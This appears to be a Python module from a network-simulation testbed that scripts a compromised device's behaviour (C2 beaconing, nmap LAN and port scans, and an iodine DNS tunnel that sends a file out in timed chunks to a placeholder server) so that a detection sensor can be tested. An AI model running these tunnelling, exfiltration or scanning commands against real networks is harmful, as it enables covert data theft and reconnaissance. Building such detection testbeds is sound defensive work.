# SPDX-License-Identifier: Apache-2.0
"""What a taken-over device does, in as many kinds as a sensor is to find. For Office.spawn."""
TUNNEL_SERVER = "203.0.113.77"
TUNNEL_FAR_END = "10.99.0.1"
TUNNEL_PORT = 8000
TUNNEL_WORD = "sample-only"
# What leaves goes in parts, with pauses, so that it lasts as long as over a real, slow path.
TUNNEL_PARTS = 9
SCAN_PORTS = "22,80,445,3389"


def tunnel_dns(zone):
    """The resolver's line that sends a tunnel's questions to the tunnel's own server."""
    return f"server=/{zone}/{TUNNEL_SERVER}"


def beacon(office, host, name, period_seconds, jitter, at_second, seconds):
    office.until(at_second)
    seed = office.dice("beacon " + host).randrange(1000)
    office.program(host, "beacon", name, office.folder / "tls/ca.pem", period_seconds, jitter,
                   seed, seconds)


def beacon_raw(office, host, address, port, period_seconds, jitter, seconds):
    dice = office.dice("raw " + host)
    office.program("internet", "exchange_server", address, port, 32)
    end = office.now() + seconds
    while office.now() < end:
        if office.rest(period_seconds * dice.uniform(1 - jitter, 1 + jitter)):
            return
        office.once(host, "exchange", address, port, 48)


def scan_lan(office, host, at_second):
    """Who is there (by ARP, as nmap does on its own network), then a few doors of each."""
    office.until(at_second)
    office.run(host, "nmap", "-n", "-sS", "-p", SCAN_PORTS, "192.168.10.0/24", seconds=60)
    office.rest(5)
    office.run(host, "nmap", "-n", "-sT", "-p", SCAN_PORTS + ",139,5900,8080", "192.168.10.0/24",
               seconds=60)


def scan_ports(office, host, target, at_second):
    office.until(at_second)
    office.run(host, "nmap", "-n", "-sS", "--top-ports", "1000", target, seconds=60)


def start_tunnel_server(office, zone):
    office.start("internet", "iodined", "-f", "-c", "-P", TUNNEL_WORD, "-l", TUNNEL_SERVER,
                 TUNNEL_FAR_END + "/27", zone)


def tunnel(office, host, zone, record_type, at_second, upload_bytes):
    """Packets in names: an idle tunnel, pings through it, then a file that leaves."""
    start_tunnel_server(office, zone)
    office.until(at_second)
    # -r: never past the resolver, straight to the server.
    client = office.start(host, "iodine", "-f", "-r", "-P", TUNNEL_WORD, "-T", record_type,
                          "192.168.10.1", zone)
    office.rest(12)
    office.run(host, "ping", "-q", "-c", "15", "-i", "1", TUNNEL_FAR_END, seconds=40)
    office.program("internet", "exchange_server", TUNNEL_FAR_END, TUNNEL_PORT, 600)
    office.rest(1)
    for _ in range(TUNNEL_PARTS):
        office.once(host, "exchange", TUNNEL_FAR_END, TUNNEL_PORT, upload_bytes // TUNNEL_PARTS)
        office.rest(3.5)
    office.rest(10)
    client.terminate()
